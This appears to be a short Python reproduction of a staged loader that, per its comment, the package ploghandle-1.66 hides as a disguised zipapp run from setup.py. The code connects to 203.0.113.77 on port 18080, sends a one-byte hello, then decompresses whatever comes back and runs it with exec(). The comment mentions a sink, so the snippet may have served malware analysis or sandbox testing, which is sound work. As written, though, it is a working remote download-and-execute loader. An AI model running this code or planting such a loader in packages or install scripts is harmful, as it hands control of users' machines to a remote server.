# A staged loader that speaks first (ploghandle-1.66 hides one as a zipapp
# named like a data file and runs it from setup.py): connect, send a
# one-byte hello, read what the server sends back and exec() it after
# zlib-decompressing it. Before, the sink answered a hello of no protocol
# it knows with nothing, and the loader's connection was all there was.
import socket, zlib

c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
c.connect(("203.0.113.77", 18080))
c.send(b"v")
exec(zlib.decompress(c.recv(999)))
print("loader done")
